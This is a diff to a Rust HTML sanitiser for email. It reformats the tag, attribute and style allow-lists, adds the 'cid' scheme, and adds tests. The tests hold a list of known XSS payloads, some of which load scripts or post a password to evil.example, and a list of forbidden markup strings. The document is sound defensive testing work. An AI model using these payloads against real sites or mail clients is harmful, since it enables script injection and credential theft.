@@ -20,24 +20,154 @@ pub const MAX_HTML: usize = 1024 * 1024;
 const MAX_NESTING: usize = 400;
 
 const TAGS: &[&str] = &[
-    "a", "abbr", "address", "article", "aside", "b", "bdi", "bdo", "big", "blockquote", "br", "caption", "center",
-    "cite", "code", "col", "colgroup", "dd", "del", "details", "dfn", "div", "dl", "dt", "em", "figcaption", "figure",
-    "font", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "header", "hr", "i", "img", "ins", "kbd", "li", "main",
-    "mark", "ol", "p", "pre", "q", "rp", "rt", "ruby", "s", "samp", "section", "small", "span", "strike", "strong",
-    "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "tt", "u", "ul", "var", "wbr",
+    "a",
+    "abbr",
+    "address",
+    "article",
+    "aside",
+    "b",
+    "bdi",
+    "bdo",
+    "big",
+    "blockquote",
+    "br",
+    "caption",
+    "center",
+    "cite",
+    "code",
+    "col",
+    "colgroup",
+    "dd",
+    "del",
+    "details",
+    "dfn",
+    "div",
+    "dl",
+    "dt",
+    "em",
+    "figcaption",
+    "figure",
+    "font",
+    "footer",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "header",
+    "hr",
+    "i",
+    "img",
+    "ins",
+    "kbd",
+    "li",
+    "main",
+    "mark",
+    "ol",
+    "p",
+    "pre",
+    "q",
+    "rp",
+    "rt",
+    "ruby",
+    "s",
+    "samp",
+    "section",
+    "small",
+    "span",
+    "strike",
+    "strong",
+    "sub",
+    "summary",
+    "sup",
+    "table",
+    "tbody",
+    "td",
+    "tfoot",
+    "th",
+    "thead",
+    "tr",
+    "tt",
+    "u",
+    "ul",
+    "var",
+    "wbr",
 ];
 const ATTRIBUTES: &[&str] = &[
-    "align", "alt", "bgcolor", "border", "cellpadding", "cellspacing", "color", "colspan", "dir", "face", "height",
-    "lang", "nowrap", "rowspan", "size", "span", "start", "style", "title", "type", "valign", "width",
+    "align",
+    "alt",
+    "bgcolor",
+    "border",
+    "cellpadding",
+    "cellspacing",
+    "color",
+    "colspan",
+    "dir",
+    "face",
+    "height",
+    "lang",
+    "nowrap",
+    "rowspan",
+    "size",
+    "span",
+    "start",
+    "style",
+    "title",
+    "type",
+    "valign",
+    "width",
 ];
 const STYLES: &[&str] = &[
-    "background-color", "border", "border-bottom", "border-collapse", "border-color", "border-left", "border-radius",
-    "border-right", "border-spacing", "border-style", "border-top", "border-width", "color", "direction", "display",
-    "font-family", "font-size", "font-style", "font-variant", "font-weight", "height", "letter-spacing", "line-height",
-    "list-style-type", "margin", "margin-bottom", "margin-left", "margin-right", "margin-top", "max-height",
-    "max-width", "min-height", "min-width", "padding", "padding-bottom", "padding-left", "padding-right",
-    "padding-top", "table-layout", "text-align", "text-decoration", "text-indent", "text-transform", "vertical-align",
-    "white-space", "width", "word-break", "word-spacing", "word-wrap",
+    "background-color",
+    "border",
+    "border-bottom",
+    "border-collapse",
+    "border-color",
+    "border-left",
+    "border-radius",
+    "border-right",
+    "border-spacing",
+    "border-style",
+    "border-top",
+    "border-width",
+    "color",
+    "direction",
+    "display",
+    "font-family",
+    "font-size",
+    "font-style",
+    "font-variant",
+    "font-weight",
+    "height",
+    "letter-spacing",
+    "line-height",
+    "list-style-type",
+    "margin",
+    "margin-bottom",
+    "margin-left",
+    "margin-right",
+    "margin-top",
+    "max-height",
+    "max-width",
+    "min-height",
+    "min-width",
+    "padding",
+    "padding-bottom",
+    "padding-left",
+    "padding-right",
+    "padding-top",
+    "table-layout",
+    "text-align",
+    "text-decoration",
+    "text-indent",
+    "text-transform",
+    "vertical-align",
+    "white-space",
+    "width",
+    "word-break",
+    "word-spacing",
+    "word-wrap",
 ];
 
 /// Cleaned HTML.
@@ -63,7 +193,7 @@ pub(super) fn clean(html: &str, pictures: HashMap<String, String>) -> Option<Cle
         .generic_attributes(ATTRIBUTES.iter().copied().collect())
         .tag_attributes([("a", HashSet::from(["href"])), ("img", HashSet::from(["src"]))].into())
         .filter_style_properties(STYLES.iter().copied().collect())
-        .url_schemes(["http", "https", "mailto", "data"].into())
+        .url_schemes(["http", "https", "mailto", "data", "cid"].into())
         .url_relative(UrlRelative::Deny)
         .link_rel(Some("noopener noreferrer"))
         .set_tag_attribute_value("a", "target", "_blank")
@@ -160,6 +290,185 @@ fn nesting(html: &str) -> usize {
 
 fn is_void(tag: &str) -> bool {
     let name: String = tag.chars().take_while(char::is_ascii_alphanumeric).collect();
-    let void = ["area", "base", "br", "col", "hr", "img", "input", "link", "meta", "p", "li", "td", "tr", "th", "wbr"];
+    let void = [
+        "area", "base", "br", "col", "hr", "img", "input", "link", "meta", "p", "li", "td", "tr", "th", "wbr",
+    ];
     void.contains(&name.to_ascii_lowercase().as_str())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn cleaned(html: &str) -> Clean {
+        let pictures = HashMap::from([("logo@1".to_owned(), "data:image/png;base64,AAAA".to_owned())]);
+        clean(html, pictures).unwrap()
+    }
+
+    /// Payloads of the kinds that public collections have (PortSwigger's and OWASP's cheat sheets, DOMPurify's and
+    /// Roundcube's past holes).
+    const HOSTILE: &[&str] = &[
+        "<script>alert(1)</script>",
+        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=\"javascript:alert(1)\">",
+        "<body onload=alert(1)>",
+        "<svg onload=alert(1)>",
+        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
+        "<svg><script>alert(1)</script></svg>",
+        "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"></use></svg>",
+        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+        "<iframe src=\"javascript:alert(1)\"></iframe>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\">",
+        "<object data=\"data:text/html,<script>alert(1)</script>\">",
+        "<embed src=\"//evil.example/x.swf\">",
+        "<link rel=stylesheet href=//evil.example/x.css>",
+        "<link rel=prefetch href=//evil.example>",
+        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
+        "<base href=\"//evil.example/\"><a href=\"x\">x</a>",
+        "<form action=//evil.example><input name=password><button>Go</button></form>",
+        "<button formaction=javascript:alert(1)>x</button>",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "<a href=\" &#1; java\nscript:alert(1)\">x</a>",
+        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+        "<a href=\"vbscript:msgbox(1)\">x</a>",
+        "<a href=\"//evil.example\" ping=\"//evil.example\">x</a>",
+        "<div style=\"background:url(//evil.example/x)\">x</div>",
+        "<div style=\"background-image:url('https://evil.example/x')\">x</div>",
+        "<div style=\"width:expression(alert(1))\">x</div>",
+        "<div style=\"color:r\\65 d;background-color:\\75rl(//evil.example)\">x</div>",
+        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
+        "<style>@import '//evil.example/x.css'; body{background:url(//evil.example)}</style>",
+        "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<template><script>alert(1)</script></template>",
+        "<table background=\"//evil.example/x\"><td background=\"//evil.example/y\">x</table>",
+        "<video src=//evil.example/x poster=//evil.example/y><source src=//evil.example/z></video>",
+        "<audio src=//evil.example/x autoplay onplay=alert(1)>",
+        "<picture><source srcset=//evil.example/x></picture>",
+        "<img srcset=\"//evil.example/x 2x\">",
+        "<img src=\"//evil.example/x\">",
+        "<img src=\"https://evil.example/x\" lowsrc=//evil.example>",
+        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
+        "<input type=image src=//evil.example/x>",
+        "<details open ontoggle=alert(1)>x</details>",
+        "<marquee onstart=alert(1)>x</marquee>",
+        "<xss id=x onfocus=alert(1) tabindex=1>",
+        "<!--><img src=x onerror=alert(1)>-->",
+        "<![CDATA[<img src=x onerror=alert(1)>]]>",
+        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
+        "<p id=\"__proto__\" name=\"constructor\" class=\"x\">x</p>",
+        "<textarea><img src=x onerror=alert(1)></textarea>",
+        "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
+        "<isindex type=image src=1 onerror=alert(1)>",
+        "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
+    ];
+
+    #[test]
+    fn nothing_hostile_survives_twice_cleaning_either() {
+        for payload in HOSTILE {
+            let once = cleaned(payload).html;
+            let forbidden = [
+                "<script",
+                "<svg",
+                "<math",
+                "<iframe",
+                "<object",
+                "<embed",
+                "<link",
+                "<meta",
+                "<base",
+                "<form",
+                "<input",
+                "<style",
+                "<video",
+                "<audio",
+                "<source",
+                "<template",
+                "<button",
+                "<textarea",
+                "javascript:",
+                "vbscript:",
+                "evil.example",
+                " on",
+                "url(",
+                "expression",
+                "position",
+                " id=",
+                " class=",
+                "svg+xml",
+            ];
+            for bad in forbidden {
+                assert!(!outside_text(&once).contains(bad), "{payload}\n{once}");
+            }
+            assert_eq!(
+                without_link_attributes(&cleaned(&once).html),
+                without_link_attributes(&once),
+                "{payload}"
+            );
+        }
+    }
+
+    /// They come in any order.
+    fn without_link_attributes(html: &str) -> String {
+        html.replace(" target=\"_blank\"", "").replace(" rel=\"noopener noreferrer\"", "")
+    }
+
+    /// The markup alone: text may say anything.
+    fn outside_text(html: &str) -> String {
+        let tags =
+            html.split('<').skip(1).filter_map(|tag| tag.split_once('>')).map(|(tag, _)| format!("<{tag}>"));
+        tags.collect::<String>().to_ascii_lowercase()
+    }
+
+    #[test]
+    fn ordinary_mail_keeps_its_looks() {
+        let html = "<p style=\"color: red; position: absolute; margin-top: 4px\">Hi <b>Bob</b></p>\
+                    <table bgcolor=\"#eeeeee\" width=\"600\"><tbody><tr><td align=\"left\">x</td></tr></tbody></table>";
+        let wanted = "<p style=\"color:red;margin-top:4px\">Hi <b>Bob</b></p>\
+                      <table bgcolor=\"#eeeeee\" width=\"600\"><tbody><tr><td align=\"left\">x</td></tr></tbody></table>";
+        assert_eq!(cleaned(html), Clean { html: wanted.into(), remote_content: false });
+    }
+
+    #[test]
+    fn links_open_elsewhere_and_say_nothing_of_where_they_were() {
+        let html = "<a href=\"https://example.org/?a=1&amp;b\" target=\"_self\">x</a>";
+        let wanted =
+            "<a href=\"https://example.org/?a=1&amp;b\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>";
+        assert_eq!(cleaned(html).html, wanted);
+        assert!(cleaned("<a href=\"MAILTO:bob@example.org\">x</a>").html.contains("href="));
+        assert!(!cleaned("<a href=\"ftp://example.org\">x</a>").html.contains("href="));
+        assert!(!cleaned("<a href=\"/settings\">x</a>").html.contains("href="));
+    }
+
+    #[test]
+    fn pictures_come_from_the_mail_or_not_at_all() {
+        let own = cleaned("<img src=\"cid:logo@1\" alt=\"Logo\">");
+        assert_eq!(
+            own,
+            Clean {
+                html: "<img src=\"data:image/png;base64,AAAA\" alt=\"Logo\">".into(),
+                remote_content: false
+            }
+        );
+        assert_eq!(cleaned("<img src=\"cid:other\">"), Clean { html: "<img>".into(), remote_content: false });
+        assert_eq!(
+            cleaned("<img src=\"https://example.org/1.png\">"),
+            Clean { html: "<img>".into(), remote_content: true }
+        );
+        assert!(cleaned("<div style=\"background:url(https://example.org)\">x</div>").remote_content);
+        assert!(cleaned("<img src=\"data:image/gif;base64,R0lGOD==\">").html.contains("data:image/gif"));
+    }
+
+    #[test]
+    fn what_would_take_too_long_is_refused() {
+        assert_eq!(clean(&"<div>".repeat(100_000), HashMap::new()), None);
+        assert_eq!(clean(&"x".repeat(MAX_HTML + 1), HashMap::new()), None);
+        assert!(clean(&"<p>x".repeat(100_000), HashMap::new()).is_some());
+        assert!(clean(&"<b>".repeat(MAX_NESTING), HashMap::new()).is_some());
+    }
 }
